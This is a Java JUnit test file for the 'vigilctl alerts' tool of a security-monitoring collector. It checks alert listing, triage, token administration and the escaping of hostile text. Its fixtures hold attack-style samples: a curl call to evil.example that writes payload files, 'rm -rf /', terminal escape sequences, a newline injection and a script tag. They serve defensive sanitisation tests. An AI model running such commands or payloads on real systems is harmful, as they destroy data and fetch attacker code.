package io.vigil.collector.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.gson.Gson;
import com.google.gson.JsonElement;
import com.google.gson.JsonObject;
import com.google.gson.Strictness;
import com.google.gson.stream.JsonReader;
import com.google.gson.stream.JsonToken;
import io.vigil.collector.api.OperatorFixture;
import io.vigil.collector.store.AlertFixture;
import io.vigil.proto.v1.ProcessRef;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code vigilctl alerts} end to end: the real operator API over TLS on loopback, on a real
 * database; changes are recorded with the token's operator.
 */
class CtlMainTest {
  private static final long S = 1_000_000_000L;
  private static final long NOW = 1_800_000_000L * S;

  /** Clears the screen, starts a new line, and would be markup in a browser. */
  private static final String HOSTILE = "x\u001b[2J\nfake line<script>alert(1)</script>\u202e";

  private static final String PROCESS =
      "{\"entity_id\":\"P3\",\"pid\":300,\"image\":\"/usr/bin/curl\","
          + "\"command_line\":\"curl http://evil.example/\\u001b[31m\",\"user\":\"alice\","
          + "\"session_id\":5,\"chain\":["
          + "{\"entity_id\":\"P2\",\"pid\":200,\"image\":\"/bin/bash\",\"command_line\":\"-bash\","
          + "\"user\":\"alice\"},"
          + "{\"entity_id\":\"P1\",\"pid\":100,\"image\":\"/usr/sbin/sshd\","
          + "\"command_line\":\"sshd: alice\",\"user\":\"root\"}],"
          + "\"chain_end\":\"session_leader\"}";

  @TempDir Path dir;
  private Path db;
  private long plain;
  private long hostile;
  private long correlation;

  private final ByteArrayOutputStream out = new ByteArrayOutputStream();
  private final ByteArrayOutputStream err = new ByteArrayOutputStream();
  private OperatorFixture api;
  private Path alice;
  private Path carol;
  private Path actor;

  @BeforeEach
  void storeWithAlerts() throws Exception {
    db = dir.resolve("vigil.db");
    ProcessRef shell = AlertFixture.process("P2", 200, "/bin/bash", "-bash", "alice");
    ProcessRef curl =
        AlertFixture.process("P3", 300, "/usr/bin/curl", "curl http://evil.example/", "alice");
    try (AlertFixture f = AlertFixture.create(db)) {
      f.agent("agent-a", "web-1");
      f.agent("agent-h", HOSTILE);
      long a = f.stream("agent-a", "e1");
      long h = f.stream("agent-h", "e1");
      f.event(a, AlertFixture.exec(1, curl, shell), "P3");
      f.event(a, AlertFixture.file(2, curl, "/tmp/payload"), "P3");
      f.event(a, AlertFixture.file(3, curl, "/tmp/stage2"), "P3");
      plain =
          f.alert(
              "agent-a",
              a,
              1,
              Map.of(
                  "entity_id", "P3", "process", PROCESS, "hostname", "web-1", "level", "medium"));
      hostile =
          f.alert(
              "agent-h",
              h,
              7,
              Map.of(
                  "title",
                  HOSTILE,
                  "matched_fields",
                  "{\"CommandLine\":[\"" + "rm -rf /\\u001b[2J\\n" + "\"]}",
                  "level",
                  "critical"));
      correlation =
          f.alert(
              "agent-a",
              a,
              3,
              Map.of(
                  "source", "correlation",
                  "rule_id", "corr-1",
                  "title", "Download then write",
                  "group_key", "{\"User\":\"alice\"}",
                  "count", 2));
      f.alertEvent(correlation, a, 1, 1 * S, "member");
      f.alertEvent(correlation, a, 2, 2 * S, "member");
    }
    api = OperatorFixture.start(dir);
    alice = api.tokenFile("alice", api.token("alice", "responder"));
    carol = api.tokenFile("carol", api.token("carol", "responder"));
    actor = alice;
  }

  @AfterEach
  void stopApi() {
    api.close();
  }

  private int run(String... args) {
    out.reset();
    err.reset();
    return CtlMain.run(
        args,
        Map.<String, String>of(),
        new PrintStream(out, true, StandardCharsets.UTF_8),
        new PrintStream(err, true, StandardCharsets.UTF_8),
        () -> NOW);
  }

  private int ctl(String... args) {
    List<String> all = new ArrayList<>(api.ctlArgs(actor));
    all.addAll(List.of(args));
    return run(all.toArray(String[]::new));
  }

  private int runEnv(Map<String, String> env, String... args) {
    out.reset();
    err.reset();
    return CtlMain.run(
        args,
        env,
        new PrintStream(out, true, StandardCharsets.UTF_8),
        new PrintStream(err, true, StandardCharsets.UTF_8),
        () -> NOW);
  }

  private String out() {
    return out.toString(StandardCharsets.UTF_8);
  }

  private String err() {
    return err.toString(StandardCharsets.UTF_8);
  }

  private static void assertTerminalSafe(String text) {
    for (String line : text.split("\n", -1)) {
      for (char c : line.toCharArray()) {
        assertFalse(c < 0x20 || c == 0x7f || c == '\u202e', "raw control character in: " + line);
      }
    }
  }

  @Test
  void aPathArgumentWithANulByteIsAUsageErrorNamingTheOption() {
    assertEquals(2, run("--config", "/etc/vigil/a\0b.yaml", "whoami"));
    assertTrue(err.toString(StandardCharsets.UTF_8).contains("--config"), err.toString());
    assertEquals(2, ctl("token", "create", "--output", "/tmp/vigil-test-\0.token"));
    assertTrue(err.toString(StandardCharsets.UTF_8).contains("--output"), err.toString());
  }

  @Test
  void listShowsOpenAlertsNewestFirstAsATableWithHostileTextEscaped() {
    assertEquals(0, ctl("alerts", "list"));
    String text = out();
    assertTerminalSafe(text);
    List<String> lines = text.lines().toList();
    assertEquals(4, lines.size(), text); // header and three alerts: no injected line
    assertTrue(lines.get(0).startsWith("ID"), lines.get(0));
    assertTrue(lines.get(1).startsWith(correlation + " "), lines.get(1));
    assertTrue(lines.get(2).startsWith(hostile + " "), lines.get(2));
    assertTrue(lines.get(2).contains("x\\x1b[2J\\x0afake line<script>"), lines.get(2));
    assertTrue(lines.get(3).contains("/usr/bin/curl"), "image from the process context");
    assertTrue(lines.get(3).contains("medium") && lines.get(3).contains("new"), lines.get(3));
    assertTrue(lines.get(1).contains(" 2 "), "count: " + lines.get(1));
  }

  @Test
  void listFiltersAndTheDefaultLeavesClosedAlertsOut() {
    assertEquals(0, ctl("alerts", "close", Long.toString(hostile), "--reason", "test"));
    assertEquals(0, ctl("alerts", "list"));
    assertFalse(out().contains("x\\x1b"), out());
    assertEquals(0, ctl("alerts", "list", "--state", "closed"));
    assertEquals(2, out().lines().count(), out());
    assertEquals(0, ctl("alerts", "list", "--state=all", "--level", "high"));
    assertEquals(3, out().lines().count(), out()); // critical (closed) and high, not medium
    assertFalse(out().contains("medium"), out());
    assertEquals(0, ctl("alerts", "list", "--source", "correlation", "--since", "1h"));
    assertEquals("no matching alerts", out().strip(), "event times are in 1970");
    assertEquals(0, ctl("alerts", "list", "--host", "web-1", "--rule", "corr-1", "--limit", "1"));
    assertEquals(3, out().lines().count(), out()); // header, one alert, "newest 1 shown"
  }

  @Test
  void listJsonIsOneValidObjectPerLineAndKeepsTheExactText() throws IOException {
    assertEquals(0, ctl("alerts", "list", "--json"));
    List<String> lines = out().lines().toList();
    assertEquals(3, lines.size());
    JsonObject h = parse(lines.get(1));
    assertEquals(hostile, h.get("id").getAsLong());
    assertEquals(HOSTILE, h.get("title").getAsString());
    assertEquals(HOSTILE, h.get("hostname").getAsString());
    assertEquals(
        "rm -rf /\u001b[2J\n",
        h.getAsJsonObject("matched_fields").getAsJsonArray("CommandLine").get(0).getAsString());
    JsonObject p = parse(lines.get(2));
    assertEquals(300, p.getAsJsonObject("process").get("pid").getAsLong());
    assertEquals(
        "/usr/sbin/sshd",
        p.getAsJsonObject("process")
            .getAsJsonArray("chain")
            .get(1)
            .getAsJsonObject()
            .get("image")
            .getAsString());
    assertTrue(p.get("assignee").isJsonNull());
  }

  @Test
  void showGivesTheProcessTreeRelatedEventsMembersAndHistory() {
    assertEquals(0, ctl("alerts", "ack", Long.toString(plain), "--note", "on it"));
    assertEquals(0, ctl("alerts", "assign", Long.toString(plain), "bob"));
    assertEquals(0, ctl("alerts", "show", Long.toString(plain)));
    String text = out();
    assertTerminalSafe(text);
    List<String> lines = text.lines().toList();
    int sshd = indexOf(lines, "  /usr/sbin/sshd [100] user root  sshd: alice");
    assertEquals("  └─ /bin/bash [200] user alice  -bash", lines.get(sshd + 1));
    assertEquals(
        "     └─ /usr/bin/curl [300] user alice  curl http://evil.example/\\x1b[31m   <- acting"
            + " process",
        lines.get(sshd + 2));
    assertTrue(text.contains("the chain ends at the session leader"), text);
    assertTrue(text.contains("session 5"), text);
    int events = indexOf(lines, "events of this process (3)");
    assertTrue(
        lines.get(events + 1).contains("/tmp/stage2"), "newest first: " + lines.get(events + 1));
    assertTrue(lines.get(events + 3).contains("process_exec"), lines.get(events + 3));
    assertTrue(text.contains("alice  ack new -> acknowledged  note: on it"), text);
    assertTrue(text.contains("alice  assign (none) -> bob"), text);
    assertTrue(text.contains("assignee   bob"), text);
    assertTrue(text.contains("state      acknowledged"), text);

    assertEquals(0, ctl("alerts", "show", Long.toString(correlation)));
    text = out();
    assertTrue(text.contains("group      {\"User\":\"alice\"}"), text);
    assertTrue(text.contains("other events (2)"), text);
    assertTrue(text.contains("member ") && text.contains("/tmp/payload"), text);
  }

  @Test
  void showEscapesHostileTextAndItsJsonParses() throws IOException {
    assertEquals(0, ctl("alerts", "note", Long.toString(hostile), "see", "<b>ticket</b>"));
    assertEquals(0, ctl("alerts", "show", Long.toString(hostile)));
    String text = out();
    assertTerminalSafe(text);
    assertTrue(text.contains("x\\x1b[2J\\x0afake line<script>alert(1)</script>\\u202e"), text);
    assertTrue(text.contains("CommandLine: \"rm -rf /\\x1b[2J\\x0a\""), text);
    assertTrue(text.contains("(event e1#7 not stored)"), text);

    assertEquals(0, ctl("alerts", "show", Long.toString(hostile), "--json"));
    assertEquals(1, out().lines().count());
    JsonObject d = parse(out().strip());
    assertEquals(HOSTILE, d.get("title").getAsString());
    assertTrue(d.get("event").isJsonNull());
    JsonObject note = d.getAsJsonArray("history").get(0).getAsJsonObject();
    assertEquals("see <b>ticket</b>", note.get("note").getAsString());
    assertEquals("alice", note.get("actor").getAsString());
    assertTrue(note.get("at_ns").getAsLong() > 0, "stamped by the collector's clock");

    assertEquals(0, ctl("alerts", "show", Long.toString(correlation), "--json"));
    d = parse(out().strip());
    assertEquals(2, d.getAsJsonArray("events").size());
    assertEquals(
        "/tmp/payload",
        d.getAsJsonArray("events")
            .get(1)
            .getAsJsonObject()
            .getAsJsonObject("event")
            .getAsJsonObject("file")
            .get("path")
            .getAsString());
  }

  @Test
  void triageCommandsRecordTheActorAndRefusalsExitOne() throws Exception {
    String id = Long.toString(plain);
    assertEquals(0, ctl("alerts", "close", id, "--reason", "benign admin task", "--note", "ok"));
    assertTrue(out().contains("alert " + id + ": new -> closed (by alice)"), out());
    assertEquals(1, ctl("alerts", "ack", id));
    assertTrue(err().contains("alert " + id + " is closed; reopen it first"), err());
    actor = carol;
    assertEquals(0, ctl("alerts", "reopen", id));
    assertEquals(0, ctl("alerts", "unassign", id) == 1 ? 0 : 1, "nobody to unassign");
    assertEquals(1, ctl("alerts", "ack", "999"));
    assertTrue(err().contains("no alert 999"), err());
    try (AlertFixture f = AlertFixture.create(db)) {
      List<List<Object>> changes = f.changes(plain);
      assertEquals(3, changes.size());
      assertEquals(List.of("alice", "close"), changes.get(0).subList(1, 3));
      assertEquals("benign admin task", changes.get(0).get(5));
      assertEquals("ok", changes.get(1).get(5));
      assertEquals(List.of("carol", "reopen"), changes.get(2).subList(1, 3));
    }
  }

  @Test
  void usageErrorsExitTwoWithTheUsageText() {
    String id = Long.toString(plain);
    List<String[]> bad =
        List.of(
            new String[] {},
            new String[] {"events", "list"},
            new String[] {"alerts"},
            new String[] {"alerts", "delete", id},
            new String[] {"alerts", "list", "--bogus"},
            new String[] {"alerts", "list", "--limit"},
            new String[] {"alerts", "list", "--limit", "0"},
            new String[] {"alerts", "list", "--level", "severe"},
            new String[] {"alerts", "list", "--state", "done"},
            new String[] {"alerts", "list", "--since", "yesterday"},
            new String[] {"alerts", "list", "extra"},
            new String[] {"alerts", "show"},
            new String[] {"alerts", "show", "abc"},
            new String[] {"alerts", "show", id, "--note", "x"},
            new String[] {"alerts", "ack", id, "--reason", "x"},
            new String[] {"alerts", "close", id},
            new String[] {"alerts", "close", id, "--reason", " "},
            new String[] {"alerts", "assign", id},
            new String[] {"alerts", "assign", id, "bad\u001bname"},
            new String[] {"alerts", "note", id},
            new String[] {"alerts", "list", "--insecure"},
            new String[] {"alerts", "list", "--db", db.toString()},
            new String[] {"alerts", "list", "--json", "--json"},
            new String[] {"whoami", "extra"},
            new String[] {"token", "create", "--ttl", "soon"},
            new String[] {"api-token", "create", "--operator", "x"},
            new String[] {"api-token", "create", "--operator", "x", "--role", "root"},
            new String[] {"agent", "revoke", "agent-a"},
            new String[] {"ping"},
            new String[] {"audit", "--limit", "-1"});
    for (String[] args : bad) {
      assertEquals(2, ctl(args), String.join(" ", args) + " -> " + err());
      assertTrue(err().contains("usage: vigilctl"), err());
      assertTerminalSafe(err());
    }
    try (AlertFixture f = AlertFixture.create(db)) {
      assertEquals(List.of(), f.changes(plain), "nothing was changed");
    } catch (Exception e) {
      throw new AssertionError(e);
    }
    assertEquals(0, run("--help"));
    assertTrue(out().contains("alerts close ID --reason TEXT"), out());
  }

  @Test
  void findsTheCollectorThroughItsConfigAndSaysWhenItCannot() throws Exception {
    Path config = dir.resolve("collector.yaml");
    Files.writeString(
        config,
        "collector:\n  state_dir: "
            + dir.resolve("state")
            + "\noperator:\n  address: 127.0.0.1:"
            + api.port()
            + "\ntls:\n  ca_file: "
            + api.pki.caCert()
            + "\n");
    // The bootstrap token of the collector's state directory.
    assertEquals(0, run("--config", config.toString(), "whoami"));
    assertTrue(out().contains("operator: admin\nrole: admin\n"), out());
    // VIGIL_API_TOKEN before the bootstrap file, --token-file before both.
    String viewer = api.token("vic", "viewer");
    assertEquals(
        0, runEnv(Map.of("VIGIL_API_TOKEN", viewer), "--config", config.toString(), "whoami"));
    assertTrue(out().contains("operator: vic"), out());
    assertEquals(
        0,
        runEnv(
            Map.of("VIGIL_API_TOKEN", viewer),
            "--config",
            config.toString(),
            "--token-file",
            alice.toString(),
            "whoami"));
    assertTrue(out().contains("operator: alice"), out());

    Files.delete(api.bootstrapFile());
    assertEquals(2, run("--config", config.toString(), "whoami"));
    assertTrue(err().contains("no API token"), err());

    assertEquals(
        1,
        run(
            "--collector",
            "127.0.0.1:1",
            "--ca",
            api.pki.caCert().toString(),
            "--token-file",
            alice.toString(),
            "whoami"));
    assertTrue(err().contains("cannot reach the collector's operator API at 127.0.0.1:1"), err());

    Files.writeString(config, "stor:\n  path: x\n");
    assertEquals(2, run("--config", config.toString(), "alerts", "list"));
    assertTrue(err().contains("invalid collector configuration"), err());
  }

  @Test
  void refusedTokensAndRolesExitOneWithTheCollectorsReason() throws Exception {
    Path viewer = api.tokenFile("viewer", api.token("vic", "viewer"));
    actor = viewer;
    assertEquals(0, ctl("alerts", "list"));
    assertEquals(1, ctl("alerts", "ack", Long.toString(plain)));
    assertEquals(
        "vigilctl: operator vic (viewer) may not call ChangeAlert: needs responder\n", err());
    assertEquals(1, ctl("ping", "web-1"));
    assertTrue(err().contains("may not call SendCommand: needs responder"), err());

    actor = api.tokenFile("bogus", "vigil-api-" + "B".repeat(43));
    assertEquals(1, ctl("alerts", "list"));
    assertEquals("vigilctl: the collector refused the API token: unknown API token\n", err());
  }

  @Test
  void adminCommandsManageTokensAgentsAndShowTheAudit() throws Exception {
    api.trust.enrolled("agent-a", "web-1");
    actor = api.tokenFile("admin", api.adminToken());
    assertEquals(0, ctl("whoami"));
    assertTrue(out().contains("ca_fingerprint: " + "ab".repeat(32)), out());

    Path secret = dir.resolve("enrol.token");
    assertEquals(
        0,
        ctl(
            "token",
            "create",
            "--ttl",
            "2h",
            "--uses",
            "5",
            "--note",
            "web",
            "--output",
            secret.toString()));
    assertFalse(out().contains("vigil-enroll-"), "the secret went to the file: " + out());
    assertTrue(Files.readString(secret).startsWith("vigil-enroll-"));
    assertEquals(
        "rw-------",
        java.nio.file.attribute.PosixFilePermissions.toString(
            Files.getPosixFilePermissions(secret)));
    assertTrue(out().contains("token_id: ") && out().contains("ca_fingerprint: "), out());
    assertEquals(2, ctl("token", "create", "--output", secret.toString()), "never over a file");
    assertEquals(0, ctl("token", "list"));
    assertTrue(out().contains("5/5") && out().contains("web"), out());

    assertEquals(
        0, ctl("api-token", "create", "--operator", "bob", "--role", "viewer", "--ttl", "1d"));
    String bobToken =
        out().lines().filter(l -> l.startsWith("token: ")).findFirst().orElseThrow().substring(7);
    String bobId =
        out()
            .lines()
            .filter(l -> l.startsWith("token_id: "))
            .findFirst()
            .orElseThrow()
            .substring(10);
    assertTrue(out().contains("role: viewer"), out());
    assertEquals(0, ctl("api-token", "list"));
    assertTrue(out().contains(bobId) && out().contains("bob"), out());
    assertFalse(out().contains(bobToken), "listing shows no secret");
    assertEquals(0, ctl("api-token", "revoke", bobId));
    assertTrue(out().contains("API token " + bobId + " revoked"), out());
    assertEquals(1, ctl("api-token", "revoke", "000000000000"));

    assertEquals(0, ctl("agents"));
    assertTrue(out().contains("agent-a") && out().contains("web-1"), out());
    assertEquals(3, ctl("ping", "agent-a", "--wait", "1s"));
    assertTrue(out().contains("queued: the agent is not connected"), out());
    assertEquals(0, ctl("agent", "revoke", "agent-a", "--reason", "laptop stolen"));
    assertEquals(0, ctl("agents"));
    assertTrue(out().contains("by admin: laptop stolen"), out());

    assertEquals(0, ctl("audit", "--limit", "4"));
    List<String> lines = out().lines().toList();
    assertEquals(5, lines.size(), out());
    assertTrue(lines.get(1).contains("RevokeAgent") && lines.get(1).contains(" ok "), out());
    assertTrue(lines.get(2).contains("RevokeAgent") && lines.get(2).contains("attempted"), out());
    assertTrue(lines.get(3).contains("SendCommand") && lines.get(3).contains(" ok "), out());
    assertTrue(lines.get(3).contains("queued"), out());
    assertFalse(out().contains(bobToken));
  }

  @Test
  void agentsShowsTheReportedHostNameWhenItDiffersFromTheEnrolledOne() throws Exception {
    api.trust.enrolled("agent-a", "web-old");
    actor = api.tokenFile("viewer", api.token("vic", "viewer"));
    assertEquals(0, ctl("agents"));
    assertTrue(out().contains("web-old (reports web-1)"), out());
    assertTerminalSafe(out());
  }

  @Test
  void anApiTokenValidForMoreThanTenYearsIsRefused() throws Exception {
    actor = api.tokenFile("admin", api.adminToken());
    assertEquals(
        2, // the collector's INVALID_ARGUMENT is a usage error
        ctl("api-token", "create", "--operator", "bob", "--role", "viewer", "--ttl", "4000d"),
        this::err);
    assertTrue(err().contains("ttl_ms: at most 315619200000 (10 years)"), err());
    assertEquals(
        0,
        ctl("api-token", "create", "--operator", "bob", "--role", "viewer", "--ttl", "3653d"),
        this::err);
  }

  private static int indexOf(List<String> lines, String line) {
    int i = lines.indexOf(line);
    assertTrue(i >= 0, "no line \"" + line + "\" in:\n" + String.join("\n", lines));
    return i;
  }

  /** Parses strictly: one JSON value and nothing after it. */
  private static JsonObject parse(String json) throws IOException {
    JsonReader r = new JsonReader(new StringReader(json));
    r.setStrictness(Strictness.STRICT);
    JsonElement e = new Gson().getAdapter(JsonElement.class).read(r);
    assertEquals(JsonToken.END_DOCUMENT, r.peek());
    return e.getAsJsonObject();
  }
}
